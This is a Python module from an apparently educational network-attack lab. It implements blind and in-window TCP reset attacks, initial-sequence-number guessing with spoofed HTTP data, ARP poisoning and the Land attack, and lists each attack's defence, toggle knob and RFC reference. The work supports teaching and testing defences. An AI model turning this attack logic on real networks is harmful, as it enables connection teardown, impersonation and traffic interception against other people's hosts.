"""Attacks by lie: few frames, with something in them that is not true."""

from __future__ import annotations

from collections.abc import Iterable
from typing import ClassVar

from aether.attacks.attack import Attack, Plan
from aether.attacks.station import MAC, OWN, PORTS, TRUSTED, VictimSegment
from aether.tcp.connection import Connection
from aether.tcp.isn import STEP
from aether.tcp.states import CLOSED, SYN_RECEIVED, SYN_SENT
from aether.wire import tcp
from aether.wire.address import show_ip, show_mac

STRIDE = 60_000
"""From one guess of a sequence number to the next: a window in which one of them must fall."""


class _Reset(Attack):
    """A reset in the name of a connection's peer."""

    __slots__ = ("before", "key", "seq")
    RFC = "RFC 5961 §3"
    DEFENCE = "only the exact number resets; another one in the window is questioned (tcp.challenge_ack)"
    KNOBS = ("tcp.challenge_ack=off",)

    def prepare(self) -> None:
        """Find the connection; its addresses and ports are known to the attacker."""
        host = self.victim_host()
        if host is None:
            raise ValueError("which connections the kernel has is not known here; attack your own stack: --at you")
        conn = _connection(host.tcp.connections.values(), self.plan.conn, self.victim)
        self.key = conn.key
        self.before = host.counters.get("tcp.challenge_acks", 0)
        self.seq = conn.rcv_nxt + self.plan.offset

    def reset(self, seq: int) -> None:
        """Send one reset."""
        key = self.key
        self.segment(key[:4], int.from_bytes(key[8:10], "big"), int.from_bytes(key[10:], "big"), seq, 0, tcp.RST)

    def judge(self) -> tuple[bool | None, list[str]]:
        """It works if the connection is gone."""
        host = self.victim_host()
        conn = host.tcp.connections.get(self.key) if host is not None else None
        gone = conn is None or conn.state == CLOSED
        challenges = host.counters.get("tcp.challenge_acks", 0) - self.before if host is not None else 0
        resets = f"{self.sent:,} resets" if self.sent > 1 else "1 reset"
        found = [f"the connection is {'gone' if gone else 'there still'}, after {resets}"]
        if challenges and not gone:
            found.append(f"{challenges} challenge ACK{'s were' if challenges > 1 else ' was'} sent")
        return gone, found


def _connection(connections: Iterable[Connection], number: int, where: str) -> Connection:
    """Return the connection that is meant: the one of that number, or the only one."""
    there = [conn for conn in connections if conn.state not in (CLOSED, SYN_SENT, SYN_RECEIVED)]
    if number:
        there = [conn for conn in there if conn.number == number]
        if not there:
            raise ValueError(f"there is no connection #{number} at {where}. `tcp conns` shows those that there are")
    if not there:
        raise ValueError(f"there is no connection at {where} to attack. Make one: tcp connect 192.168.1.1:7")
    if len(there) > 1:
        numbers = ", ".join(f"#{conn.number}" for conn in there[:5])
        raise ValueError(f"which connection? There are {numbers}. Say --conn NUMBER")
    return there[0]


class ResetBlind(_Reset):
    """Resets for every window's worth of sequence numbers."""

    __slots__ = ()
    NAME = "rst-blind"
    PLAN: ClassVar[Plan] = Plan(count=72_000, every=10, lasting=10_000, port=0, conn=0, offset=0)
    ABOUT = ("Addresses and ports are known, the sequence number is not: so a reset for every 60,000th number, of "
             "which there are 72,000. One of them is in the window.")

    def prepare(self) -> None:
        """Begin anywhere."""
        super().prepare()
        self.seq = self.stream.bits(32)

    def move(self, index: int) -> None:
        """The next guess."""
        self.reset(self.seq + index * STRIDE)


class ResetInWindow(_Reset):
    """One reset with a number that is nearly right."""

    __slots__ = ()
    NAME = "rst-window"
    PLAN: ClassVar[Plan] = Plan(count=1, every=1000, lasting=10_000, port=0, conn=0, offset=10)
    ABOUT = ("One reset, whose sequence number is in the window and not exactly the next one: as somebody sends it who "
             "has seen the connection a moment ago.")

    def move(self, index: int) -> None:
        """Send it."""
        self.reset(self.seq)


class IsnGuess(Attack):
    """A connection in another's name, without seeing a single answer."""

    __slots__ = ("client", "guessed", "learned")
    NAME = "isn-guess"
    PLAN: ClassVar[Plan] = Plan(count=3, every=50_000, lasting=200_000, port=80, conn=0, offset=STEP)
    ABOUT = ("Ask for a connection to see which initial sequence number is given, then ask in the name of somebody "
             "else, and acknowledge the number that must come next. The answers go elsewhere: nobody needs them.")
    DEFENCE = "initial sequence numbers that nobody can foresee (tcp.isn)"
    KNOBS = ("tcp.isn=predictable",)
    RFC = "RFC 6528, CERT CA-1995-01"
    SEQ = 40_000

    def prepare(self) -> None:
        """Nothing is known yet; a port of its own keeps it from meeting what is left of an attack before."""
        self.client = PORTS[self.stream.below(len(PORTS))]
        self.learned = -1
        self.guessed = -1

    def move(self, index: int) -> None:
        """Ask, then ask in another's name, then acknowledge what was not seen."""
        trusted = self.address(TRUSTED)
        if index == 0:
            self.ask(self.address(OWN), self.client, self.plan.port, self.SEQ)
        elif self.learned < 0:
            return
        elif index == 1:
            self.ask(trusted, self.client, self.plan.port, self.SEQ)
        else:
            self.guessed = (self.learned + self.plan.offset) & 0xFFFFFFFF
            self.segment(trusted, self.client, self.plan.port, self.SEQ + 1, self.guessed + 1, tcp.ACK | tcp.PSH,
                         payload=b"GET / HTTP/1.0\r\n\r\n")

    def heard_segment(self, segment: VictimSegment) -> None:
        """The answer to the first question says which number is given."""
        header = segment.header
        if self.accepts(segment):
            self.learned = header.sequence
            self.segment(segment.destination, self.client, self.plan.port, header.acknowledgement, 0, tcp.RST)

    def judge(self) -> tuple[bool | None, list[str]]:
        """It works if the victim has taken data from somebody who never sent any."""
        found = []
        if self.learned >= 0:
            found.append(f"it was given {self.learned}, and guessed {self.guessed} for the next")
        else:
            found.append(f"nobody answered on port {self.plan.port}")
        host = self.victim_host()
        if host is None:
            return None, found
        trusted = self.address(TRUSTED)
        taken = any(
            conn.remote_ip == trusted and conn.remote_port == self.client and conn.bytes_received
            for conn in host.tcp.connections.values())
        found.append(f"data in the name of {show_ip(trusted)} {'was' if taken else 'was not'} believed")
        return taken, found


class ArpPoison(Attack):
    """Answers that nobody asked for, about somebody else's address."""

    __slots__ = ("target",)
    NAME = "arp-poison"
    PLAN: ClassVar[Plan] = Plan(count=5, every=200_000, lasting=1000, port=0, conn=0, offset=0)
    ABOUT = ("ARP replies that nobody asked for, saying that the other host's address is the attacker's: whoever "
             "believes them sends everything to the attacker.")
    DEFENCE = "what was not asked for is not believed; a known neighbour is asked first (arp.unsolicited)"
    KNOBS = ("arp.unsolicited=on",)
    RFC = "RFC 826, RFC 5227"

    def prepare(self) -> None:
        """The one in whose name is spoken."""
        self.target = self.address(1 if self.victim == "you" else 2)

    def move(self, index: int) -> None:
        """Claim it once more."""
        self.claim(self.target)

    def judge(self) -> tuple[bool | None, list[str]]:
        """It works if the victim believes it."""
        host = self.victim_host()
        if host is None:
            return None, [f"`host -- ip neigh` shows what the kernel believes about {show_ip(self.target)}"]
        entry = host.interfaces[0].neighbours.entries.get(self.target)
        if entry is None or not entry.mac:
            return False, [f"the victim knows no hardware address for {show_ip(self.target)}"]
        return entry.mac == MAC, [f"the victim believes that {show_ip(self.target)} is at {show_mac(entry.mac)}"]


class Land(Attack):
    """A SYN that comes from the victim itself."""

    __slots__ = ("before", "known")
    NAME = "land"
    PLAN: ClassVar[Plan] = Plan(count=1, every=1000, lasting=10_000, port=80, conn=0, offset=0)
    ABOUT = ("A SYN whose source is the victim's own address and port: the victim begins a connection with itself. "
             "Some systems of 1997 stood still afterwards.")
    DEFENCE = "nothing from outside can come from ourselves (ipv4.own_source)"
    KNOBS = ("ipv4.own_source=on", "tcp.syn_cookies=off")
    RFC = "RFC 1122 §3.2.1.3, CERT CA-1997-28"

    def prepare(self) -> None:
        """How many cookies were sent before, and which connections are left of an attack before."""
        host = self.victim_host()
        self.before = host.counters.get("tcp.cookies_sent", 0) if host is not None else 0
        self.known = self.with_itself()

    def with_itself(self) -> list[int]:
        """Return the numbers of the victim's connections with itself, as far as that is known."""
        host = self.victim_host()
        connections = host.tcp.connections.values() if host is not None else ()
        return [conn.number for conn in connections if conn.remote_ip == conn.local_ip]

    def move(self, index: int) -> None:
        """Send it."""
        self.ask(self.victim_ip, self.plan.port, self.plan.port, self.stream.bits(32))

    def judge(self) -> tuple[bool | None, list[str]]:
        """It works if the victim has begun to talk to itself."""
        host = self.victim_host()
        if host is None:
            return None, []
        talks = any(number not in self.known for number in self.with_itself())
        answers = host.counters.get("tcp.cookies_sent", 0) > self.before
        said = "has a connection with itself" if talks else "has answered itself" if answers else "took no notice"
        return talks or answers, [f"the victim {said}"]
